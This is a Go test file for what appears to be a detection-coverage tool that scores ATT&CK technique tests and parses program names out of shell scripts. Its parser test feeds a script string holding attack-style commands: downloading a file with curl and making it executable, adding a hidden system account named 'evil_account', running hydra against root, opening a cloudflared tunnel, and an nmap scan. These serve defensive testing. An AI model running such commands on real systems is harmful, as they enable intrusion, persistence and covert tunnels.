package atomic

import (
	"errors"

	"testing"

	"github.com/stretchr/testify/require"
)

func TestPrograms(t *testing.T) {
	require.Equal(t, []string{"/opt/payloads/../bin/cloudflared", "/usr/bin/hydra", "ccencrypt", "chmod", "curl", "grep", "nmap", "useradd", "whois"}, Programs(`if [ -x "$(command -v nmap)" ]; then
  sudo nmap -sS 127.0.0.1 | grep open
fi
X=1 curl -so /tmp/x http://x && chmod +x /tmp/x; echo done
useradd -M -N -r -s /bin/bash -c evil_account art; /usr/bin/hydra -l root
c=$(which ccencrypt); $c -K pw /tmp/f; $HOME/x
nohup /opt/payloads/../bin/cloudflared tunnel --url localhost:8080 &
timeout --preserve-status 1 whois -h localhost -p 8443 hi`))
}

func TestCoveredByTechniqueOrItsParent(t *testing.T) {
	sub := Result{Test: Test{Technique: "T1053.003"}, Detections: []Detection{{Recipe: "r", Techniques: []string{"T1053"}}}}
	exact, parent := sub.Covered()
	require.False(t, exact)
	require.True(t, parent)
	sub.Detections[0].Techniques = append(sub.Detections[0].Techniques, "T1053.003")
	exact, parent = sub.Covered()
	require.True(t, exact)
	require.True(t, parent)
	none := Result{Test: Test{Technique: "T1082"}, Detections: []Detection{{Recipe: "r", Techniques: []string{"T1083"}}}}
	exact, parent = none.Covered()
	require.False(t, exact || parent)
}

func TestScoreLeavesApartButCountsEveryLinuxTest(t *testing.T) {
	hit := []Detection{{Recipe: "r", Techniques: []string{"T1082"}}}
	results := []Result{
		{Test: Test{Technique: "T1082", Number: 1, Name: "Linux"}, Detections: hit},
		{Test: Test{Technique: "T1082", Number: 2, Name: "Linux"}},
		{Test: Test{Technique: "T1082", Number: 3, Name: "compiled"}},
		{Test: Test{Technique: "T1082", Number: 4, Name: "FreeBSD"}, Detections: hit},
		{Test: Test{Technique: "T1082", Number: 5, Name: "broken"}, Err: errors.New("no vigil")},
	}
	c := Score(results, map[string]string{"T1082-3": "inside a program"})
	require.Equal(t, 2, c.Tests)
	require.Equal(t, 1, c.Parent)
	require.Equal(t, 1, c.Errors)
	require.Len(t, c.Apart, 2)
	require.Equal(t, "inside a program", c.Apart[0].Why)
	require.Equal(t, 3, c.Linux)
	require.Equal(t, 1, c.LinuxCovered)
	require.InDelta(t, 50.0, c.Percent(), 0.01)
}
